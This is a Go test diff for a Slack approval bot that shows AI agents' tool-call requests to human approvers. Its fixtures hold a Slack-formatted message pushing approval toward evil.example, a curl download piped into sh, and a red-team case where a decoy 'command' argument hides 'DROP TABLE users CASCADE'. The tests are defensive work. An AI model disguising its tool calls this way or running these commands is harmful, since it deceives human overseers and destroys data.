@@ -51,7 +51,7 @@ func hostileQuestion() approverbot.Question {
 		V: 1, Type: "approval_needed", Team: "default",
 		Request: messages.Request{RequestID: "r1", SessionID: "s1", AgentID: "a1", Tool: "bash", Arguments: args,
 			Description: "<!channel> approve <https://evil.example|the docs> & go"},
-		Risk: messages.Risk{Tier: "exec", Rule: "bash(curl *)", Reason: "fetch-then-execute <script>",
+		Risk: messages.Risk{Shell: true, Tier: "exec", Rule: "bash(curl *)", Reason: "fetch-then-execute <script>",
 			SafetyOverride: "pipes a download into <sh>",
 			Subcommands: []messages.Verdict{
 				{Command: "curl https://x.example/i.sh", Action: "ask", Rule: "bash(curl *)"},
@@ -424,5 +424,29 @@ func TestAskUserLinesSlackCannotHoldTakeNoAnswer(t *testing.T) {
 	}
 	if !offered {
 		t.Fatal("a short ask-user question offers no Answer button")
+	}
+}
+
+// A "command" argument of a tool the brokers did not judge as a shell
+// call gets no Command heading and does not lead the notification text:
+// every argument is shown alike (red team AG F1: a decoy "command" on an
+// MCP tool whose server runs "sql").
+func TestOnlyAShellCallsCommandIsShownAsTheCommand(t *testing.T) {
+	q := hostileQuestion()
+	q.Request.Tool, q.Risk.Shell, q.Risk.Subcommands = "mcp__postgres__query", false, nil
+	q.Request.Arguments = json.RawMessage(`{"command":"SELECT count(*) FROM users","sql":"DROP TABLE users CASCADE"}`)
+	got := texts(t, questionBlocks(q, time.Unix(1_700_000_000, 0), ""))
+	if contains(got["rich"], "Command") || contains(got["rich"], "SELECT count(*) FROM users") {
+		t.Errorf("the decoy is shown as the command: %q", got["rich"])
+	}
+	if !contains(got["rich"], "{\n  \"command\": \"SELECT count(*) FROM users\",\n  \"sql\": \"DROP TABLE users CASCADE\"\n}") {
+		t.Errorf("the arguments are not shown alike: %q", got["rich"])
+	}
+	if f := fallbackText(q); !strings.Contains(f, "DROP TABLE users CASCADE") || !strings.Contains(f, `"command": "SELECT`) {
+		t.Errorf("the notification text leads with one argument: %q", f)
+	}
+	q.Request.Tool, q.Risk.Shell = "bash", true
+	if f := fallbackText(q); !strings.Contains(f, "Approval needed: bash SELECT count(*) FROM users") {
+		t.Errorf("a shell call's notification text does not lead with its command: %q", f)
 	}
 }
